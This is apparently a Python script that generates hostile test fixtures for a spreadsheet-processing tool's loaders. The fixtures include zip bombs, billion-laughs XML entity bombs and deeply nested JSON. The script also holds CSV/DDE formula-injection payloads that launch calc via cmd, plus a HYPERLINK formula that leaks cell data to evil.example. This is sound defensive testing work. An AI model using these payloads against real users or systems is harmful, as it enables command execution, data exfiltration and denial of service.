"""Write tests/data/hostile/: files built to break powerlist's loaders (issue 7 §3).

    python tools/make_hostile.py [DIRECTORY]

Every file is small on disk (the bombs too). Each file's name says which loader it attacks
(its prefix) and how; `tests/test_hostile.py` holds the table of what each must produce. A
10 MB cell is written at test time (a file that large would not be committed), and the
catalog files replace one workbook of a copy of the shipped catalogs.

| prefix | loader |
|---|---|
| power-list | `load_power_list`, `powerlist catalog check FILE` |
| catalog-<file> | `load_catalogs` on the shipped catalogs with `<file>.xlsx` replaced |
| delegation | `load_delegation_workbook` against the shipped catalog, `powerlist audit FILE` |
| issues | `read_issues` + `Router.route_many`, `powerlist route FILE` |
| rules | `RuleSet.load` on the shipped rules with `routing.toml` replaced, `route --rules` |
| whistles | `read_whistles`, `powerlist score --input FILE` |
| vetoes | `read_vetoes`, `powerlist score --vetoes FILE` |
"""

from __future__ import annotations

import io
import json
import random
import re
import shutil
import struct
import sys
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl

ROOT = Path(__file__).resolve().parent.parent
CATALOGS = ROOT / "catalogs"
RULES = ROOT / "rules"
FIXED = datetime(2026, 1, 1)  # document properties, so the files do not change on every run

BILLION_LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'.encode()
        for n in range(1, 10)
    )
    + b"]>\n"
)
POWER_HEADER = ["序号", "事项编码", "事项名称", "子项", "权力类型", "实施主体", "实施依据", "责任事项",
                "追责情形", "承接方式", "来源", "备注"]
ISSUE_HEADER = ["工单编号", "受理时间", "问题分类", "发生地点", "渠道", "诉求类型", "问题描述"]
WHISTLE_HEADER = ["案件编号", "街道", "责任单位", "部门", "哨类", "等级", "受理时间", "响应时限", "响应时间",
                  "办结时限", "办结时间", "满意度", "第三方回访得分", "延期次数", "重办次数", "街道自有权力"]
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
)


def book(rows: list[list[Any]], title: str = "Sheet1") -> openpyxl.Workbook:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = title
    for row in rows:
        ws.append(row)
    wb.properties.created = wb.properties.modified = FIXED
    return wb


def save(wb: openpyxl.Workbook) -> bytes:
    buffer = io.BytesIO()
    wb.save(buffer)
    data = buffer.getvalue()
    core = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2026-01-01T00:00:00Z", part(data, "docProps/core.xml"))
    return rewrite(data, "docProps/core.xml", core)


def _entry(name: str) -> zipfile.ZipInfo:
    """A zip entry with a fixed time, so that the files are the same on every run."""
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def power_list(rows: list[list[Any]] | None = None) -> openpyxl.Workbook:
    body = rows if rows is not None else [
        [1, "1001", "对占道经营的处罚", None, "行政处罚", "城管", "《城市市容和环境卫生管理条例》第十四条",
         "受理责任：依法受理", None, "下放", "示意", None],
    ]
    return book([["街道通用权责清单（示意）"], POWER_HEADER, *body], "通用权责清单")


def rewrite(data: bytes, part: str, new: bytes | None = None, *, extra: dict[str, bytes] | None = None,
            method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """`data` (a zip) with `part` replaced by `new` (or dropped when None), plus `extra` parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", method) as zout:
        for info in zin.infolist():
            if info.filename == part:
                if new is not None:
                    zout.writestr(_entry(info.filename), new)
                continue
            zout.writestr(_entry(info.filename), zin.read(info))
        for name, content in (extra or {}).items():
            zout.writestr(_entry(name), content)
    return out.getvalue()


def part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def with_entities(xml: bytes) -> bytes:
    """A sheet's XML under a billion-laughs DTD, its first cell referencing the expansion."""
    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
    body = body.replace(b"<sheetData>", b'<sheetData><row r="100"><c r="A100" t="inlineStr"><is><t>&lol9;'
                        b"</t></is></c></row>", 1)
    return BILLION_LAUGHS + body


def with_shared_strings(data: bytes, sst: bytes) -> bytes:
    """`data` (an openpyxl workbook, which writes inline strings) with a sharedStrings part
    `sst`, registered in the package, and its cell A1 reading shared string 0."""
    types = part(data, "[Content_Types].xml").replace(b"</Types>", (
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'))
    rels = part(data, "xl/_rels/workbook.xml.rels").replace(b"</Relationships>", (
        b'<Relationship Id="rIdSST" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'))
    sheet = part(data, "xl/worksheets/sheet1.xml")
    start = sheet.index(b'<c r="A1"')
    end = sheet.index(b"</c>", start) + len(b"</c>")
    sheet = sheet[:start] + b'<c r="A1" t="s"><v>0</v></c>' + sheet[end:]
    data = rewrite(data, "[Content_Types].xml", types)
    data = rewrite(data, "xl/_rels/workbook.xml.rels", rels)
    return rewrite(data, "xl/worksheets/sheet1.xml", sheet, extra={"xl/sharedStrings.xml": sst})


def forged_sizes(data: bytes, size: int) -> bytes:
    """`data` (a zip) whose central directory declares every part `size` bytes uncompressed."""
    blob = bytearray(data)
    position = 0
    while (position := blob.find(b"PK\x01\x02", position)) >= 0:
        struct.pack_into("<I", blob, position + 24, size)  # uncompressed size
        position += 4
    return bytes(blob)


def sheet_with_formulas(cells: list[tuple[str, str]]) -> bytes:
    """A worksheet XML whose cells are formulas without cached values."""
    header = "".join(
        f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{name}</t></is></c>'
        for i, name in enumerate(["事项编码", "事项名称", "权力类型"])
    )
    rows = []
    for n, (code, formula) in enumerate(cells, start=2):
        rows.append(
            f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{code}</t></is></c>'
            f'<c r="B{n}"><f>{formula}</f></c>'
            f'<c r="C{n}" t="inlineStr"><is><t>行政处罚</t></is></c></row>'
        )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<sheetData><row r="1">{header}</row>{"".join(rows)}</sheetData></worksheet>'
    ).encode()


def xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def catalog_workbook(name: str) -> openpyxl.Workbook:
    wb = openpyxl.load_workbook(CATALOGS / name)
    wb.properties.created = wb.properties.modified = FIXED
    return wb


def header_column(ws: Any, title: str) -> tuple[int, int]:
    """(header row, column) of `title` in the first 20 rows of `ws`."""
    for row in ws.iter_rows(min_row=1, max_row=20):
        for cell in row:
            if isinstance(cell.value, str) and cell.value.strip() == title:
                return cell.row, cell.column
    raise KeyError(title)


def encrypted_ole() -> bytes:
    """A minimal OLE2 compound file (CFB v3, 512-byte sectors) holding the two streams Excel
    writes for a workbook with an opening password, EncryptionInfo and EncryptedPackage
    (ECMA-376 part 2), each 4096 bytes of filler so that both sit in regular sectors."""
    end, fat_sector, free, none = 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF, 0xFFFFFFFF
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x003E, 0x0003, 0xFFFE, 9, 6)  # version 3, 512-byte sectors
    # directory sectors, FAT sectors, first directory sector, transaction, mini cutoff, mini FAT, DIFAT
    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, 1, 0, 4096, end, 0, end, 0)
    struct.pack_into("<109I", header, 76, 0, *[free] * 108)  # the FAT is sector 0
    fat = [fat_sector, end, *range(3, 10), end, *range(11, 18), end]
    fat += [free] * (128 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\0\0"
        raw[: len(encoded)] = encoded
        struct.pack_into("<HBB", raw, 64, len(encoded), kind, 1)
        struct.pack_into("<III", raw, 68, none, right, child)
        struct.pack_into("<IQ", raw, 116, start, size)
        return bytes(raw)

    directory = (entry("Root Entry", 5, 1, none, end, 0) + entry("EncryptionInfo", 2, none, 2, 2, 4096)
                 + entry("EncryptedPackage", 2, none, none, 10, 4096) + bytes(128))
    return bytes(header) + struct.pack("<128I", *fat) + directory + b"\x04" * 4096 + b"\x5a" * 4096


def strict_ooxml(data: bytes) -> bytes:
    """`data` (a workbook) as Excel's "Strict Open XML Spreadsheet" writes it: the ISO/IEC 29500
    strict namespaces instead of the transitional ones, and conformance="strict"."""
    names = [
        (b"http://schemas.openxmlformats.org/spreadsheetml/2006/main", b"http://purl.oclc.org/ooxml/spreadsheetml/main"),
        (b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
         b"http://purl.oclc.org/ooxml/officeDocument/relationships"),
    ]
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            content = zin.read(info)
            if info.filename.endswith((".xml", ".rels")):
                for old, new in names:
                    content = content.replace(old, new)
                if info.filename == "xl/workbook.xml":
                    content = content.replace(b"<workbook ", b'<workbook conformance="strict" ', 1)
            zout.writestr(_entry(info.filename), content)
    return out.getvalue()


def rows_backwards(data: bytes, numbers: list[int]) -> bytes:
    """`data` (a workbook with one sheet) whose data rows are renumbered `numbers` in XML order,
    e.g. 2, 5, 3, 3: row numbers that go backwards, as some generators write them."""
    sheet = part(data, "xl/worksheets/sheet1.xml").decode()
    rows = re.findall(r"<row [^>]*>.*?</row>", sheet)
    header_rows = len(rows) - len(numbers)
    for row, number in zip(rows[header_rows:], numbers, strict=True):
        old = int(re.search(r'r="(\d+)"', row).group(1))  # type: ignore[union-attr]
        renumbered = re.sub(r'(<row [^>]*?)r="\d+"', rf'\g<1>r="{number}"', row, count=1)
        renumbered = re.sub(rf'(<c r="[A-Z]+){old}"', rf'\g<1>{number}"', renumbered)
        sheet = sheet.replace(row, renumbered, 1)
    return rewrite(data, "xl/worksheets/sheet1.xml", sheet.encode())


def sparse(rows: list[list[Any]], title: str) -> openpyxl.Workbook:
    """A workbook whose every data row also holds a note in column XFD, the last one."""
    wb = book([rows[0]], title)
    for row in rows[1:]:
        wb.active.append([*row, *[None] * (16_383 - len(row)), "备注"])
    return wb


def build() -> dict[str, bytes]:
    rng = random.Random(7)
    files: dict[str, bytes] = {}
    valid = save(power_list())

    # ---- power list ------------------------------------------------------------------------
    files["power-list--truncated.xlsx"] = valid[: len(valid) // 2]
    files["power-list--xls-renamed.xlsx"] = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(rng.randrange(256) for _ in range(4088)))
    files["power-list--csv-renamed.xlsx"] = ",".join(POWER_HEADER).encode("utf-8-sig") + (
        "\n1,1001,对占道经营的处罚,,行政处罚,城管,,,,下放,示意,\n".encode())
    files["power-list--empty.xlsx"] = b""
    files["power-list--binary-garbage.xlsx"] = bytes(rng.randrange(256) for _ in range(2048))
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name in ("[Content_Types].xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"):
            archive.writestr(_entry(name), part(valid, name))
        archive.writestr(_entry("xl/worksheets/sheet1.xml"), b" " * (64 * 1024 * 1024), compresslevel=9)
    files["power-list--zip-bomb.xlsx"] = bomb.getvalue()
    files["power-list--zip-bomb-declared.xlsx"] = forged_sizes(valid, 0xFFFF_FFF0)
    files["power-list--entities-in-sheet.xlsx"] = rewrite(
        valid, "xl/worksheets/sheet1.xml", with_entities(part(valid, "xl/worksheets/sheet1.xml")))
    files["power-list--entities-in-shared-strings.xlsx"] = with_shared_strings(
        valid, BILLION_LAUGHS + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>')
    files["power-list--corrupt-sheet-xml.xlsx"] = rewrite(
        valid, "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row r=\"1\"><c r=\"A1\"")
    files["power-list--no-workbook-part.xlsx"] = rewrite(valid, "xl/workbook.xml")
    files["power-list--formula-injection.xlsx"] = rewrite(
        valid, "xl/worksheets/sheet1.xml",
        sheet_with_formulas([(str(2000 + n), xml_escape(f.lstrip("=@+\t"))) for n, f in enumerate(INJECTIONS)]))
    files["power-list--unknown-kind.xlsx"] = save(power_list([
        [1, "1001", "对占道经营的处罚", None, "行政魔法", "城管", None, None, None, "下放", "示意", None],
        [2, "1002", "对乱贴小广告的处罚", None, "99", "城管", None, None, None, "传送", "示意", None],
    ]))
    dup = book([["序号", "事项编码", "事项名称", "事项名称", "权力类型"], [1, "1001", "甲", "乙", "行政处罚"]])
    files["power-list--duplicate-headers.xlsx"] = save(dup)
    hidden = power_list()
    hidden.active.sheet_state = "hidden"
    hidden.create_sheet("说明").append([None])
    hidden.active = 1
    files["power-list--hidden-sheet-only.xlsx"] = save(hidden)
    files["power-list--wrong-types.xlsx"] = save(power_list([
        [1, True, "对占道经营的处罚", None, datetime(2026, 7, 1), "城管", None, None, None, 3.5, None, None],
        [2, "1002", 12345, None, -7, "城管", None, None, None, None, None, None],
    ]))
    files["power-list--duplicate-codes.xlsx"] = save(power_list([
        [1, "1001", "甲", None, "行政处罚", "城管", None, None, None, None, "示意", None],
        [2, "１００１", "乙", None, "行政处罚", "城管", None, None, None, None, "示意", None],
    ]))
    files["power-list--no-header.xlsx"] = save(book([["随便写的表"], ["a", "b", "c"], [1, 2, 3]]))
    files["power-list--empty-code.xlsx"] = save(power_list([
        [1, None, "对占道经营的处罚", None, "行政处罚", "城管", None, None, None, None, "示意", None],
    ]))
    four = [[n, f"100{n}", name, None, "行政处罚", "城管", None, None, None, None, "示意", None]
            for n, name in enumerate(["甲", "乙", "丙", "丁"], start=1)]
    files["power-list--rows-backwards.xlsx"] = rows_backwards(save(power_list(four)), [3, 6, 4, 4])
    files["power-list--strict-ooxml.xlsx"] = strict_ooxml(valid)
    files["power-list--encrypted.xlsx"] = encrypted_ole()
    files["power-list--invisible-codes.xlsx"] = save(power_list([
        [1, "10\u200b01", "甲", None, "行政处罚", "城管", None, None, None, None, "示意", None],
        [2, "\u202e1002", "乙", None, "行政处罚", "城管", None, None, None, None, "示意", None],
        [3, "\ufeff1003", "丙", None, "行政处罚", "城管", None, None, None, None, "示意", None],
    ]))

    # ---- catalogs (one workbook of the shipped catalogs replaced) ----------------------------
    org = catalog_workbook("organisation.xlsx")
    ws = org["街道"]
    row, col = header_column(ws, "所属区县编码")
    ws.cell(row + 1, col).value = "999999"
    files["catalog-organisation--unknown-district.xlsx"] = save(org)
    org = catalog_workbook("organisation.xlsx")
    del org["部门"]
    files["catalog-organisation--missing-sheet.xlsx"] = save(org)
    org = catalog_workbook("organisation.xlsx")
    ws = org["街道"]
    row, col = header_column(ws, "编制人数")
    ws.cell(row + 1, col).value = "三十人"
    ws.cell(row + 2, col).value = datetime(2026, 1, 1)
    files["catalog-organisation--wrong-types.xlsx"] = save(org)
    tax = catalog_workbook("taxonomy.xlsx")
    ws = tax["问题分类"]
    row, col = header_column(ws, "吹哨范围")
    ws.cell(row + 1, col).value = "随便吹"
    prow, pcol = header_column(ws, "上级分类编码")
    crow, ccol = header_column(ws, "分类编码")
    first, second = ws.cell(row + 2, ccol).value, ws.cell(row + 3, ccol).value
    ws.cell(row + 2, pcol).value, ws.cell(row + 3, pcol).value = second, first
    files["catalog-taxonomy--bad-scope-and-cycle.xlsx"] = save(tax)
    cal = catalog_workbook("calendar_overrides.xlsx")
    ws = cal["调休调整"]
    row, col = header_column(ws, "日期")
    trow, tcol = header_column(ws, "类型")
    for n, (day, kind) in enumerate([("2026年10月10日", "上班"), ("10/11/2026", "上班"),
                                     ("2026-02-30", "休息"), ("2026-10-12", "放个假")], start=1):
        ws.cell(row + n, col).value = day
        ws.cell(row + n, tcol).value = kind
    files["catalog-calendar--dates-as-text.xlsx"] = save(cal)
    files["catalog-power-list--truncated.xlsx"] = (CATALOGS / "power_list.xlsx").read_bytes()[:20_000]

    # ---- delegation workbooks ------------------------------------------------------------------
    delegation_header = ["序号", "事项编码", "事项名称", "权力类型", "实施主体", "实施依据", "街道", "承接方式", "来源"]
    plist = openpyxl.load_workbook(CATALOGS / "power_list.xlsx", read_only=True)
    sheet = plist.worksheets[0]
    code = None
    for values in sheet.iter_rows(values_only=True):
        if values and values[1] and str(values[1]).strip() not in ("事项编码",) and values[0] is not None \
                and str(values[0]).strip().isdigit():
            code = str(values[1]).strip()
            break
    plist.close()
    files["delegation--unknown-street-and-mode.xlsx"] = save(book([
        ["街道承接情况（示意）"], delegation_header,
        [1, code, None, "行政处罚", None, None, "不存在街道", "下放", "示意"],
        [2, code, None, "行政处罚", None, None, "420202001", "随缘", "示意"],
        [3, "NO-SUCH-ITEM", "没有这个事项", "行政处罚", None, None, "420202001、火星街道", "下放", "示意"],
    ], "街道承接"))
    files["delegation--zip-bomb-declared.xlsx"] = forged_sizes(save(book([delegation_header])), 0x7FFF_FFFF)

    # ---- issues ----------------------------------------------------------------------------------
    good = "HS-1,2026-07-01T09:00:00,RX0302,420202001001,12345,求助,邻里纠纷\n"
    files["issues--bom-mixed-encoding.csv"] = (
        b"\xef\xbb\xbf" + ",".join(ISSUE_HEADER).encode() + b"\n" + good.encode()
        + "HS-2,2026-07-01T10:00:00,RX0302,420202001001,12345,求助,楼道堆放杂物\n".encode("gbk"))
    files["issues--gb18030.csv"] = (",".join(ISSUE_HEADER) + "\n" + good).encode("gb18030")
    files["issues--empty.csv"] = b""
    files["issues--nul-bytes.csv"] = (",".join(ISSUE_HEADER) + "\n").encode() + b"HS-1\x00,\x00\x00\n"
    files["issues--duplicate-headers.csv"] = (
        "工单编号,受理时间,问题分类,分类编码,发生地点\nHS-1,2026-07-01T09:00:00,RX0302,BJ0104,420202001001\n"
    ).encode()
    files["issues--dates-as-text.csv"] = (
        ",".join(ISSUE_HEADER) + "\n"
        "HS-1,2026年7月1日上午,RX0302,420202001001,12345,求助,x\n"
        "HS-2,下周一,RX0302,420202001001,12345,求助,x\n"
        "HS-3,45843,RX0302,420202001001,12345,求助,x\n").encode()
    files["issues--formula-injection.csv"] = (
        ",".join(ISSUE_HEADER) + "\n" + "".join(
            f'"{value.replace(chr(34), chr(34) * 2)}",2026-07-01T09:00:00,RX0302,420202001001,12345,求助,'
            f'"{value.replace(chr(34), chr(34) * 2)}"\n' for value in INJECTIONS)
        + '"=1+1",2026-07-01T09:00:00,"=HYPERLINK(""http://evil.example"")",420202001001,12345,求助,x\n'
    ).encode()
    lines = [json.dumps({"id": v, "received_at": "2026-07-01T09:00:00", "category": "RX0302",
                         "location": "420202001001", "description": v}, ensure_ascii=False)
             for v in INJECTIONS]
    lines.append(json.dumps({"id": "X1", "received_at": "2026-07-01T09:00:00", "category": INJECTIONS[0],
                             "location": INJECTIONS[1]}, ensure_ascii=False))
    files["issues--formula-injection.jsonl"] = ("\n".join(lines) + "\n").encode()
    files["issues--deeply-nested.jsonl"] = b"[" * 100_000 + b"]" * 100_000 + b"\n" + (
        b'{"id": {"a": ' * 20_000 + b"1" + b"}" * 20_000 + b"}\n")
    files["issues--deeply-nested.json"] = b"[" * 50_000 + b"]" * 50_000
    files["issues--huge-number.jsonl"] = (
        b'{"id": "HS-1", "received_at": "2026-07-01T09:00:00", "category": "RX0302", '
        b'"location": "420202001001", "repeat_count": ' + b"9" * 10_000 + b"}\n")
    files["issues--huge-line.jsonl"] = json.dumps({
        "id": "HS-1", "received_at": "2026-07-01T09:00:00", "category": "RX0302", "location": "420202001001",
        "description": "长" * 100_000}, ensure_ascii=False).encode() + b"\n"
    files["issues--wrong-types.jsonl"] = "\n".join([
        json.dumps({"id": ["HS-1"], "received_at": 12345, "category": True, "location": None}),
        json.dumps({"id": "HS-2", "received_at": "2026-07-01T09:00", "category": "RX0302",
                    "location": "420202001001", "emergency": "maybe", "repeat_count": -1}),
        json.dumps([1, 2, 3]),
        json.dumps("just a string"),
        '{"id": "HS-3", "received_at": NaN}',
    ]).encode() + b"\n"
    files["issues--unknown-codes.jsonl"] = (json.dumps({
        "id": "HS-1", "received_at": "2026-07-01T09:00:00", "category": "NO-SUCH", "location": "000000"},
        ensure_ascii=False) + "\n").encode()
    files["issues--rich-markup.jsonl"] = "\n".join(json.dumps(line, ensure_ascii=False) for line in [
        {"id": "[/]", "received_at": "2026-07-01T09:00:00", "category": "RX0302", "location": "420202001001",
         "description": "[bold red]紧急[/bold red][link=http://evil.example]点此[/link]"},
        {"id": "HS-2[/]", "received_at": "2026-07-01T09:00:00", "category": "NOPE[/]", "location": "420202001001"},
    ]).encode() + b"\n"
    files["issues--binary-garbage.jsonl"] = bytes(rng.randrange(256) for _ in range(1024))
    issue_book = book([["12345热线工单导出"], ISSUE_HEADER,
                       ["HS-1", "2026-07-01 09:00", "RX0302", "420202001001", "12345", "求助", "x"]], "工单")
    issue_bytes = save(issue_book)
    files["issues--truncated.xlsx"] = issue_bytes[: len(issue_bytes) - 300]
    files["issues--entities.xlsx"] = rewrite(
        issue_bytes, "xl/worksheets/sheet1.xml", with_entities(part(issue_bytes, "xl/worksheets/sheet1.xml")))
    issue_book.active.sheet_state = "hidden"
    issue_book.create_sheet("封面").append(["工单导出"])
    issue_book.active = 1
    files["issues--hidden-sheet-only.xlsx"] = save(issue_book)
    files["issues--csv-renamed.xlsx"] = (",".join(ISSUE_HEADER) + "\n" + good).encode()
    issue = {"received_at": "2026-07-01T09:00:00", "category": "RX0302", "location": "420202001001"}

    def jsonl(rows: list[dict[str, Any]]) -> bytes:
        # ensure_ascii: a lone surrogate can only be written as its \\u escape
        return ("\n".join(json.dumps(row, ensure_ascii=True) for row in rows) + "\n").encode()

    files["issues--lone-surrogate.jsonl"] = jsonl([
        {**issue, "id": "HS-\udfff"}, {**issue, "id": "HS-2", "description": "楼道\ud800堆物"},
        {**issue, "id": "HS-3", "\udc80key": "x"}, {**issue, "id": "HS-4"}])
    files["issues--line-separators.jsonl"] = (json.dumps({**issue, "id": "HS-1", "description": "第一段\u2028第二段"},
                                                         ensure_ascii=False) + "\n" + json.dumps(
        {**issue, "id": "HS-2", "description": "甲\u2029乙\u0085丙\u000b丁\u000c戊\u001c己"}, ensure_ascii=False)
        + "\r\n" + json.dumps({**issue, "id": "HS-3"}) + "\n").encode()
    files["issues--duplicate-keys.jsonl"] = (
        '{"id": "HS-1", "received_at": "2026-07-01T09:00:00", "category": "RX0302", "location": "420202001001", '
        '"emergency": true, "emergency": false}\n'
        '{"id": "HS-2", "received_at": "2026-07-01T09:00:00", "category": "RX0302", "location": "420202001001", '
        '"description": {"a": 1, "a": 2}}\n' + json.dumps({**issue, "id": "HS-3"}) + "\n").encode()
    files["issues--time-overflow.jsonl"] = jsonl([
        {**issue, "id": "HS-1", "received_at": "9999-12-31T23:59:59-12:00"},
        {**issue, "id": "HS-2", "received_at": "0001-01-01T00:00:00"},
        {**issue, "id": "HS-3", "received_at": "9999-12-30T10:00:00", "emergency": True},
        {**issue, "id": "HS-4"}])
    files["issues--invisible-ids.jsonl"] = (
        "\n".join(json.dumps(row, ensure_ascii=False) for row in [
            {**issue, "id": "HS\u200b-1"}, {**issue, "id": "\u202eHS-2"},
            {**issue, "id": "HS-3", "category": "RX\u20600302"}, {**issue, "id": "ＨＳ－４"}]) + "\n").encode()
    nfkc = ["＝1+1", "＋1+cmd|' /C calc'!A0", "－2+3+cmd|' /C calc'!A0", "＠SUM(1+9)", "\u200b=1+1", "\ufeff@SUM(1)",
            "\u2060+1+1", "﹦HYPERLINK(\"http://evil.example\")"]
    # each value as an id (NFKC'd when routed, kept as written when rejected) and as a category
    # (unknown: the rejection repeats it as written), so outputs carry the values both ways
    nfkc_rows = [row for n, value in enumerate(nfkc, start=1)
                 for row in ({**issue, "id": value, "description": value},
                             {**issue, "id": f"N-{n}", "category": value})]
    files["issues--formula-after-nfkc.jsonl"] = ("\n".join(
        json.dumps(row, ensure_ascii=False) for row in nfkc_rows) + "\n").encode()

    def quoted(value: str) -> str:
        return '"' + value.replace('"', '""') + '"'

    files["issues--formula-after-nfkc.csv"] = (",".join(ISSUE_HEADER) + "\n" + "".join(
        f"{quoted(row['id'])},2026-07-01T09:00:00,{quoted(row['category'])},420202001001,12345,求助,"
        f"{quoted(row.get('description', 'x'))}\n" for row in nfkc_rows)).encode()
    issue_rows = [[f"HS-{n}", "2026-07-01 09:00", "RX0302", "420202001001", "12345", "求助", "x"]
                  for n in range(1, 5)]
    files["issues--rows-backwards.xlsx"] = rows_backwards(
        save(book([["12345热线工单导出"], ISSUE_HEADER, *issue_rows], "工单")), [3, 7, 5, 5])
    files["issues--encrypted.xlsx"] = encrypted_ole()
    files["issues--strict-ooxml.xlsx"] = strict_ooxml(issue_bytes)
    files["issues--sparse.xlsx"] = save(sparse([ISSUE_HEADER, *issue_rows], "工单"))

    # ---- rules -----------------------------------------------------------------------------------
    files["rules--invalid-toml.toml"] = b'[meta]\nname = "routing"\n[[tables]\nname = "whistle"\nrows = [ {'
    files["rules--wrong-types.toml"] = "\ufeff".encode() + (
        b'[meta]\nname = "routing"\n[params]\nrepeat_threshold = "three"\n'
        b'[[tables]]\nname = "whistle"\nhit_policy = 5\ninputs = "emergency"\noutputs = ["whistle"]\n'
        b'rows = [ { when = { emergency = true }, then = { whistle = "emergency" } } ]\n'
        b'[[tables]]\nname = "lead"\nhit_policy = "first"\ninputs = ["whistle"]\noutputs = ["lead"]\n'
        b'rows = [ "not a row", { when = { nope = 1 }, then = { other = 2 }, priority = "high" } ]\n'
    )
    files["rules--deeply-nested.toml"] = b"x = " + b"[" * 50_000 + b"]" * 50_000 + b"\n"
    files["rules--binary-garbage.toml"] = bytes(rng.randrange(256) for _ in range(512))
    files["rules--missing-tables.toml"] = b'[meta]\nname = "routing"\n[params]\nrepeat_threshold = 3\n'

    # ---- whistle spreadsheets (scoring) ------------------------------------------------------------
    row = ["W-1", "420202001", "420202-cg", "cg", "日常哨", "C", "2026-07-01 09:00", "2026-07-02 23:59:59",
           "2026-07-01 10:00", "2026-07-15 23:59:59", "2026-07-10 16:00", "满意", 90, 0, 0, "否"]
    files["whistles--formula-injection.csv"] = ("\ufeff" + ",".join(WHISTLE_HEADER) + "\n" + "".join(
        ",".join(f'"{c}"' for c in [value.replace('"', '""'), "420202001", value.replace('"', '""'),
                                    *map(str, row[3:])]) + "\n"
        for value in INJECTIONS)).encode()
    files["whistles--bad-values.csv"] = (",".join(WHISTLE_HEADER) + "\n" + ",".join(
        ["W-1", "420202001", "420202-cg", "cg", "魔法哨", "Z", "昨天", "2026-07-02", "", "", "", "非常满意",
         "一百", "-1", "两次", "也许"]) + "\n" + ",".join(map(str, row)) + "\n" + ",".join(map(str, row)) + "\n"
    ).encode()
    files["whistles--duplicate-headers.csv"] = (
        "案件编号,街道,责任单位,街道编码,受理时间\nW-1,420202001,420202-cg,420202002,2026-07-01 09:00\n").encode()
    files["whistles--mixed-encoding.csv"] = (
        ",".join(WHISTLE_HEADER).encode() + b"\n" + ",".join(map(str, row)).encode("gbk") + b"\n")
    files["whistles--time-overflow.csv"] = (",".join(WHISTLE_HEADER) + "\n" + ",".join(
        map(str, [*row[:6], "9999-12-31T23:59:59-12:00", *row[7:]])) + "\n" + ",".join(
        map(str, [*row[:6], "2026-07-01 09:00", "0001-01-01T00:00:00", *row[8:]])) + "\n").encode()
    files["whistles--invisible-codes.csv"] = (",".join(WHISTLE_HEADER) + "\n" + ",".join(
        map(str, ["W\u200b-1", "4202020\u202e01", *row[2:]])) + "\n").encode()
    whistle_book = save(book([["晒单"], WHISTLE_HEADER, row], "哨"))
    files["whistles--truncated.xlsx"] = whistle_book[:-200]
    files["whistles--dates-as-text.xlsx"] = save(book([WHISTLE_HEADER, [
        "W-1", "420202001", "420202-cg", "cg", "日常哨", "C", "七月一日", "下周", None, None, None, "满意", 90,
        0, 0, "否"]], "哨"))

    # ---- veto lists (scoring) ------------------------------------------------------------------
    files["vetoes--bad-dates-and-blanks.csv"] = (
        "对象,否决事项,日期,说明\n420202001,安全生产,2026年13月1日,月份写错\n,环境保护,2026-07-01,对象为空\n"
        "420202002,党风廉政,,日期为空\n").encode()
    return files

WHAT = {
    "power-list--truncated.xlsx": "a valid workbook cut in half: the zip's central directory is gone",
    "power-list--xls-renamed.xlsx": "an OLE2 (.xls, Office 97) file renamed .xlsx",
    "power-list--csv-renamed.xlsx": "a UTF-8 CSV (with BOM) renamed .xlsx",
    "power-list--empty.xlsx": "an empty file (0 bytes)",
    "power-list--binary-garbage.xlsx": "2 KiB of random bytes",
    "power-list--zip-bomb.xlsx": "65 KiB on disk, a sheet that inflates to 64 MiB (ratio ≈ 1000:1)",
    "power-list--zip-bomb-declared.xlsx": "a valid workbook whose central directory declares 4 GiB per part",
    "power-list--entities-in-sheet.xlsx": "billion laughs (10^9 expansions) in the sheet XML, referenced from a cell",
    "power-list--entities-in-shared-strings.xlsx": "billion laughs in a sharedStrings part that cell A1 reads",
